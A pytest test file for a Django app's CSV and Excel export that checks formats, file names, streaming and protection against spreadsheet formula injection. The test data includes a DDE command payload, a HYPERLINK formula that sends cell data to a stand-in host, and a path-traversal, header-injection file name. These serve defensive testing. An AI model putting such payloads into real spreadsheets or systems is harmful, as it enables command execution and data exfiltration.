"""A file holds exactly what the table showed, and nothing in it runs."""

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.core.exceptions import BadRequest
from django.test import RequestFactory
from django.utils import translation
from openpyxl import load_workbook

from ooievaar.ui import exports
from ooievaar.ui.exports import FORMATS, Format, csv_cell, file_name, safe_cell
from ooievaar.ui.tables import Column, Filter, Table

User = get_user_model()


@pytest.fixture(autouse=True)
def dutch() -> Iterator[None]:
    with translation.override("nl"):
        yield


COLUMNS = [
    Column("naam", "Naam", lambda row: row["naam"], sort="naam"),
    Column("geld", "Bedrag", lambda row: row["cents"], "euro", sort="cents"),
    Column("dag", "Dag", lambda row: row["day"], "day"),
    Column("duur", "Duur", lambda row: row["days"], "gestation", is_default=False),
]
ROWS = [
    {"naam": f"R{n:02d}", "cents": n * 100 - 1000, "day": date(2026, 11, n), "days": 200 + n}
    for n in range(1, 31)
]


def table_of(address: str, rows: Any = ROWS) -> Table:
    even = Filter(
        "even", "Even", [("ja", "Ja")], lambda rows, _: [r for r in rows if r["days"] % 2]
    )
    return Table("Onze Lijst", COLUMNS, rows, RequestFactory().get(address), filters=[even])


def body(table: Table, format: str) -> bytes:
    answer: Any = table.export(format)
    whole = b"".join(answer.streaming_content)
    finish(answer)
    return whole


def finish(answer: Any) -> None:
    """Close the file behind an answer, as is done once it is sent; a request is not ended here."""
    for close in answer._resource_closers:
        close()


def csv_rows(table: Table) -> list[list[str]]:
    text = body(table, "csv").decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def sheet(table: Table) -> Any:
    return load_workbook(io.BytesIO(body(table, "xlsx"))).active


def test_a_file_holds_every_page_of_what_is_shown() -> None:
    table = table_of("/?sorteer=-geld&even=ja&kolommen=naam&kolommen=duur&pagina=1&uitvoer=csv")
    shown = csv_rows(table)
    assert shown[0] == ["Naam", "Duur"]
    assert shown[1:] == [
        [f"R{n:02d}", f"{(200 + n) // 7}+{(200 + n) % 7}"] for n in range(29, 0, -2)
    ]
    assert [[cell.value for cell in row] for row in sheet(table)] == shown


def test_money_is_a_number_and_a_day_is_a_day() -> None:
    table = table_of("/?sorteer=geld")
    assert csv_rows(table)[1] == ["R01", "-9,00", "2026-11-01"]
    row = list(sheet(table))[1]
    assert (row[1].value, row[1].data_type) == (-9, "n")
    assert "€" in row[1].number_format
    assert row[2].is_date and row[2].value == datetime(2026, 11, 1)


FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "\u00a0=1+1", "\u2003@x", "\t", "\rtekst", "＝1+1", "＋1", "－1", "＠x",
    '=HYPERLINK("http://kwaad.example?"&A1)', "-2+3+cmd|' /C calc'!A0", "\x00=1", "\x1f=1",
    "+31 6 12345678", "-",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_in_a_file_is_a_formula(text: str) -> None:
    safe = safe_cell(text)
    assert safe.startswith("'")
    assert csv_cell("text", text) == safe
    table = table_of("/", [{"naam": text, "cents": 1, "day": None, "days": 1}])
    cell = list(sheet(table))[1][0]
    assert cell.data_type == "s" and str(cell.value).startswith("'")


@pytest.mark.parametrize("text", ["32+4", "J. de Vries-Jansen", "a=b", "'t Hof", "", "12-11-2026"])
def test_plain_text_is_left_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_text_with_quotes_and_lines_stays_in_its_cell() -> None:
    text = 'Vrouw "x"; =1\r\n=2'
    assert csv_rows(table_of("/", [{"naam": text, "cents": -5, "day": None, "days": 1}]))[1] == [
        text, "-0,05", "",
    ]  # fmt: skip


@pytest.mark.parametrize("text", ["#N/A", "#REF!", "2026-11-21", "12"])
def test_text_stays_text_whatever_a_spreadsheet_would_make_of_it(text: str) -> None:
    table = table_of("/", [{"naam": text, "cents": 1, "day": None, "days": 1}])
    cell = list(sheet(table))[1][0]
    assert (cell.data_type, cell.value) == ("s", text)


def test_a_head_is_guarded_too() -> None:
    columns = [Column("x", "=1+1", lambda row: row)]
    table = Table("x", columns, ["a"], RequestFactory().get("/"))
    assert csv_rows(table)[0] == ["'=1+1"]
    assert next(iter(sheet(table)))[0].value == "'=1+1"


@pytest.mark.parametrize(
    ("name", "stem"),
    [
        ("Onze Lijst", "onze-lijst"),
        ('../../etc\r\nX: "y', "etc-x-y"),
        ("…", "ooievaar"),
        ("", "ooievaar"),
    ],
)
def test_a_file_name_is_safe_anywhere(name: str, stem: str) -> None:
    made = file_name(name, "csv")
    assert made.startswith(f"{stem}-20") and made.endswith(".csv")
    assert not set(made) & set('/\\"\r\n;')


def test_the_answer_is_an_attachment_of_its_kind() -> None:
    answer = table_of("/").export("csv")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="onze-lijst-')
    xlsx = table_of("/").export("xlsx")
    assert xlsx.headers["Content-Disposition"].startswith('attachment; filename="onze-lijst-')
    finish(xlsx)


def test_a_format_that_cannot_hold_the_rows_says_so_and_cuts_nothing(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    small = Format("xlsx", "Excel", FORMATS["xlsx"].content_type, 10)
    monkeypatch.setitem(exports.FORMATS, "xlsx", small)
    table = table_of("/")
    assert [label for label, _address in table.export_addresses] == ["CSV"]
    assert table.too_long_for == [("Excel", 10)]
    with pytest.raises(BadRequest):
        table.export("xlsx")
    assert len(csv_rows(table)) == 31


def test_nothing_leaves_that_was_not_noted(db: None) -> None:
    """Who comes in between the note in the access log and the bytes is not in the file."""
    columns = [Column("naam", "Naam", lambda row: row.username, sort="username")]
    for name in ("b", "a", "c"):
        User.objects.create(username=name)
    table = Table("t", columns, User.objects.all(), RequestFactory().get("/?sorteer=-naam"))
    assert table.take("username") == ["c", "b", "a"]
    answer = table.export("csv")
    User.objects.create(username="later")
    User.objects.filter(username="b").delete()
    lines = b"".join(answer.streaming_content).decode("utf-8-sig").split()
    assert lines == ["Naam", "c", "a"]


def test_a_long_table_is_prepared_in_parts(db: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("ooievaar.ui.tables.CHUNK", 4)
    User.objects.bulk_create(User(username=f"u{n:02d}") for n in range(10))
    asked: list[int] = []

    def prepare(rows: Any) -> Any:
        asked.append(len(rows))
        return [row.username for row in rows]

    columns = [Column("naam", "Naam", lambda row: row)]
    rows = User.objects.order_by("username")
    for take in (False, True):
        asked.clear()
        table = Table("t", columns, rows, RequestFactory().get("/"), prepare=prepare)
        if take:
            table.take("username")
        assert [line for [line] in csv_rows(table)[1:]] == [f"u{n:02d}" for n in range(10)]
        assert asked == [4, 4, 2]


def test_a_moment_is_in_our_own_time() -> None:
    moment = datetime(2026, 7, 1, 22, 30, tzinfo=UTC)
    assert csv_cell("moment", moment) == "2026-07-02 00:30"
